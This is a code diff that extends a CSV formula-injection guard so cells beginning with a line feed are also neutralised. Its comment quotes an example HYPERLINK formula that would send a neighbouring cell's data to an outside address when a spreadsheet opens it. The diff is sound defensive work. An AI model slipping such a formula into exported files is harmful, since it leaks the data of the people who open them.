@@ -4,9 +4,10 @@
  * Injection" list, with ASVS 1.2.10's NUL). Imported QAs, model output, file names and papers'
  * tables are someone else's text: `=HYPERLINK("http://…?d="&A2)` in a cell would send the
  * neighbouring cell away the moment the CSV is opened. One rule for every CSV Distillate writes
- * (the export formats and a table copied or printed as CSV or TSV).
+ * (the export formats and a table copied or printed as CSV or TSV). A line feed first is
+ * included too: a cell "\n=1+1" is a quoted field that a sheet may trim, and TSV folds it to " =1+1".
  */
-const FORMULA_START = /^[=+\-@\t\r\0]/;
+const FORMULA_START = /^[=+\-@\t\r\n\0]/;
 /** A number and nothing else ("-5", "+3", "-1.2e-3"): a spreadsheet reads it as that number, never as a formula. */
 const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
 
